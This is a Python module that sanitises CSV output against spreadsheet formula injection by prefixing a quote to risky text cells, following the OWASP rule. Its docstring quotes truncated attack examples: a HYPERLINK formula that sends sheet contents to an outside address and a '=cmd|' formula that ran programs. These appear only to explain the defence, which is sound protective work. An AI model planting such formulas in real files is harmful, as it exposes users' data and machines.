"""CSV for spreadsheets: no cell from a file is read as a formula.

A spreadsheet (Excel, LibreOffice, Google Sheets) opening a CSV runs a cell
beginning with ``=``, ``+``, ``-`` or ``@`` as a formula —
``=HYPERLINK("http://…?"&A1, "click")`` sends the sheet away, ``=cmd|…``
once ran programs.  The OWASP rule (CSV Injection): a text cell beginning
with one of ``= + - @``, a tab or a carriage return is written with a ``'``
in front, which the spreadsheet shows as text and does not display.

Numbers (``int``/``float``) are this program's own and are written as they
are; every text cell goes through :func:`cell`.  Any CSV writer of the
project (quiz's grading CSV, a gradebook) writes through :func:`writer`.
"""
from __future__ import annotations

import csv

from ..errors import printable

#: first characters a spreadsheet reads as the start of a formula (OWASP)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value):
    """One CSV cell: a number as it is; text printable (the CSV may go to a
    terminal) and, when it begins like a formula, behind a ``'``."""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_START):
        text = "'" + text
    return printable(text)


class _Writer:
    """:func:`csv.writer` with every cell through :func:`cell`."""

    def __init__(self, stream, **kwargs) -> None:
        self._w = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._w.writerow([cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs) -> _Writer:
    """A CSV writer (``csv.writer`` arguments) that never writes a formula."""
    return _Writer(stream, **kwargs)
